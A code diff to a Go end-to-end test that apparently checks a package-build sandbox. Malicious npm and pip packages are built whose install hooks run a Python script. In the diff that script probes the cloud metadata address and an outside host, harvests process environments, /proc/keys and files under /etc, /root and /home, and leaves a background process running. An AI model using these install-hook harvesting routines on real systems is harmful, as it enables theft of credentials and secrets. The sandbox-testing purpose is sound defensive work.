@@ -8,6 +8,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -33,7 +34,7 @@ def write(path, text):
     return "done"
 def reach(host, port):
     s = socket.create_connection((host, port), 3)
-    s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\nHost: metadata.example.com\r\n\r\n")
+    s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
     said = s.recv(100)
     if not said or b" 403 " in said: raise OSError("the gateway says no")
     return "REACHED"
@@ -52,6 +53,21 @@ def secret():
     seen = [k for k, v in os.environ.items() if "sk-atoll" in v or k.startswith(("ATOLL_API", "ATOLL_MODEL", "ATOLL_URL"))]
     if not seen: raise OSError("nothing")
     return "SEEN " + str(seen)
+def look():
+    # Everything that a process can find out about itself and its neighbours, and
+    # all that lies where secrets do.
+    with open("/usr/local/evil-seen", "wb") as seen:
+        for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/mountinfo", "/proc/[0-9]*/maps", "/proc/net/*", "/proc/keys", "/proc/cmdline"):
+            for name in glob.glob(pattern):
+                try: seen.write(name.encode() + b"\n" + open(name, "rb").read(1 << 20) + b"\n")
+                except OSError: pass
+        for top in ("/etc", "/root", "/home", "/run", "/tmp", "/var/tmp", "/var/lib/atoll", "/opt", "/srv", "/mnt", "/workspace", "/dev/shm"):
+            for parent, _, names in os.walk(top):
+                for name in (os.path.join(parent, n) for n in names):
+                    if os.path.isfile(name) and os.path.getsize(name) < 1 << 20:
+                        try: seen.write(name.encode() + b"\n" + open(name, "rb").read() + b"\n")
+                        except OSError: pass
+        return "%d bytes" % seen.tell()
 def late():
     subprocess.Popen(["setsid", "sh", "-c", "while :; do date > /usr/local/evil-late; sleep 0.05; done"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     return "left behind"
@@ -67,6 +83,8 @@ attempt("device", device)
 attempt("host", host)
 attempt("secret", secret)
 attempt("metadata", lambda: reach("169.254.169.254", 80))
+attempt("another host", lambda: reach("elsewhere.example.com", 80))
+attempt("look around", look)
 attempt("late", late)
 attempt("listen", listen)
 `
@@ -124,6 +142,11 @@ func (m *mirror) addNpm(t *testing.T, registry, name string, manifest object, fi
 	m.put(registry+name, document)
 }
 
+// secrets are what a server's environment may hold, and nothing in a sandbox.
+func secrets() []string {
+	return []string{"ANTHROPIC_API_KEY=sk-ant-e2e-secret-model", "AWS_SECRET_ACCESS_KEY=e2e-secret-cloud", "PIP_INDEX_TOKEN=e2e-secret-index"}
+}
+
 // TestLayersMalicious builds packages whose install code attacks what it can
 // reach. Whoever listed them gets what they did to their own layer; nobody else
 // sees anything of it.
@@ -134,6 +157,9 @@ func TestLayersMalicious(t *testing.T) {
 	}
 	m.addNpm(t, "/npm/", "@evil/post", object{"scripts": object{"postinstall": "python3 evil.py > /usr/local/evil-report 2>&1"}}, file{"package/evil.py", evilScript})
 	s := newServer(t, m.config(""))
+	s.stop(syscall.SIGTERM)
+	s.env = secrets()
+	s.start()
 	agent := s.agent()
 	const victims = `node -e 'if (require("left-pad")("1", 3) !== "  1") throw 1' && python3 -c 'import six; print(six.__version__)'`
 	victim := s.environment(mirrored(object{"npm": []string{"left-pad@1.3.0"}, "pip": []string{"six==1.17.0"}}))
@@ -149,29 +175,52 @@ func TestLayersMalicious(t *testing.T) {
 		env := s.environment(mirrored(object{"npm": npm, "pip": pip}))
 		return env, s.built(env)
 	}
-	t.Run("attacks", func(t *testing.T) {
-		for name, lists := range map[string][2][]string{"pip": {{"left-pad@1.3.0"}, {"atoll-e2e-evil"}}, "npm": {{"left-pad@1.3.0", "@evil/post"}, {"six==1.17.0"}}} {
-			env, b := evil(lists[0], lists[1])
-			if b.Status != "ready" {
-				t.Errorf("%s: %+v %+v", name, b, b.Error)
-				continue
+	type attacked struct{ log, report, seen string }
+	all := map[string]attacked{}
+	for name, lists := range map[string][2][]string{"pip": {{"left-pad@1.3.0"}, {"atoll-e2e-evil"}}, "npm": {{"left-pad@1.3.0", "@evil/post"}, {"six==1.17.0"}}} {
+		env, b := evil(lists[0], lists[1])
+		if b.Status != "ready" {
+			t.Fatalf("%s: %+v %+v", name, b, b.Error)
+		}
+		id := s.session(agent, env)
+		var log, seen string
+		s.try("GET", "/atoll/v1/environments/"+env+"/build/log", nil, &log)
+		report := s.must(id, "cat /usr/local/evil-report")
+		if code := s.try("GET", "/atoll/v1/sessions/"+id+"/files?path=/usr/local/evil-seen", nil, &seen); code != 200 {
+			t.Errorf("%s: what the script saw: %d", name, code)
+		}
+		all[name] = attacked{log, report, seen}
+		t.Logf("%s:\n%s", name, report)
+		for _, what := range []string{"mount", "device", "host", "secret", "metadata", "another host"} {
+			if !strings.Contains(report, "evil: "+what+" -> refused") {
+				t.Errorf("%s: %s was not refused:\n%s", name, what, report)
 			}
-			id := s.session(agent, env)
-			var log string
-			s.try("GET", "/atoll/v1/environments/"+env+"/build/log", nil, &log)
-			if !strings.Contains(log, "warning: the install was kept from metadata.example.com:80, and did without") {
-				t.Errorf("%s: the log does not name what was refused:\n%s", name, log)
-			}
-			report := s.must(id, "cat /usr/local/evil-report")
-			t.Logf("%s:\n%s", name, report)
-			for _, what := range []string{"mount", "device", "host", "secret", "metadata"} {
-				if !strings.Contains(report, "evil: "+what+" -> refused") {
-					t.Errorf("%s: %s was not refused:\n%s", name, what, report)
+		}
+		// Nothing runs on, and no cache came with the layer.
+		s.must(id, "! ls /root/.cache /root/.npm /var/cache/apt/archives/evil.deb /tmp/atoll-build 2>/dev/null | grep evil")
+		s.must(id, "! bash -c '</dev/tcp/127.0.0.1/48123' 2>/dev/null && a=$(cat /usr/local/evil-late) && sleep 1 && test \"$a\" = \"$(cat /usr/local/evil-late)\"")
+	}
+
+	t.Run("E273", func(t *testing.T) {
+		for name, a := range all {
+			for _, at := range []string{"169.254.169.254:80", "elsewhere.example.com:80"} {
+				if !strings.Contains(a.log, name+": warning: the install was kept from "+at+", and did without") {
+					t.Errorf("%s: the log does not name what was refused, %s:\n%s", name, at, a.log)
 				}
 			}
-			// Nothing runs on, and no cache came with the layer.
-			s.must(id, "! ls /root/.cache /root/.npm /var/cache/apt/archives/evil.deb /tmp/atoll-build 2>/dev/null | grep evil")
-			s.must(id, "! bash -c '</dev/tcp/127.0.0.1/48123' 2>/dev/null && a=$(cat /usr/local/evil-late) && sleep 1 && test \"$a\" = \"$(cat /usr/local/evil-late)\"")
+		}
+	})
+	t.Run("E277", func(t *testing.T) {
+		for name, a := range all {
+			if len(a.seen) < 10_000 || !strings.Contains(a.seen, "/etc/passwd") || !strings.Contains(a.seen, "PATH=") {
+				t.Errorf("%s: the script saw %d bytes", name, len(a.seen))
+			}
+			for _, secret := range append(secrets(), testKey, "ATOLL_API_KEY", s.Data) {
+				_, value, ok := strings.Cut(secret, "=")
+				if strings.Contains(a.seen, secret) || ok && strings.Contains(a.seen, value) {
+					t.Errorf("%s: the builder holds %s", name, secret)
+				}
+			}
 		}
 	})
 	t.Run("liar", func(t *testing.T) {
